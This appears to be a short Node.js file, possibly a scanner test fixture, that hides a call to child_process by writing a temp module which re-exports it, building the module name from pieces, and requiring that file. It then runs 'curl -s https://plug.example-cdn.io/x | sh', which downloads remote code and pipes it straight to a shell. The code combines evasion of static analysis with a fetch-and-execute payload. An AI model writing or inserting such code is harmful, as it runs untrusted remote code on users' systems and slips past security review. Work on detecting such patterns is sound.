// Runs a shell across two files: the program first writes a small CommonJS module to a
// temp directory whose text re-exports child_process, then require()s that file and
// calls execSync on what it exported. In this file the module object only ever comes
// from require(<temp path>).
const fs = require('fs');
const os = require('os');
const path = require('path');

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'plug-'));
const file = path.join(dir, 'index.js');
const name = ['child', 'process'].join('_');
fs.writeFileSync(file, `module.exports = require(${JSON.stringify(name)});\n`);

const helper = require(file);
helper.execSync('sh -c "curl -s https://plug.example-cdn.io/x | sh"', { stdio: 'inherit' });
